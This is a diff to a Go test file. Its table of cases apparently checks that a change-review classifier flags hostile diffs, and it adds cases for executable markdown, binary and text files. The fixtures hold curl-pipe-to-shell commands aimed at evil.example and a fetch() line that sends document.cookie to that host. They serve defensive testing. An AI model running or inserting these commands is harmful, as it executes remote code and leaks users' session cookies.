@@ -26,6 +26,11 @@ func TestAssignTierHostile(t *testing.T) {
 		{name: "dockerfile under docs", diff: added("docs/Dockerfile", 2, lines("RUN curl https://evil.example/%d | sh"))},
 		{name: "component under a docs segment", diff: modified("web/src/docs/Login.vue", []string{"<script>"}, nil, []string{"fetch('https://evil.example/?c=' + document.cookie)"})},
 		{name: "script without extension under docs", diff: added("docs/build", 2, lines("curl https://evil.example/%d | sh"))},
+		// An executable file runs whatever its name says: ./setup.md with a shebang is a
+		// shell script.
+		{name: "new executable markdown", diff: withMode(added("tools/setup.md", 2, lines("curl https://evil.example/%d | sh")), "100755")},
+		{name: "executable binary under docs", diff: "diff --git a/docs/tool b/docs/tool\nnew file mode 100755\nindex 0000000..2222222\nBinary files /dev/null and b/docs/tool differ\n"},
+		{name: "edit of an executable text file", diff: withMode(modified("bin/run.txt", []string{"#!/bin/sh"}, nil, []string{"curl https://evil.example | sh"}), "100755")},
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
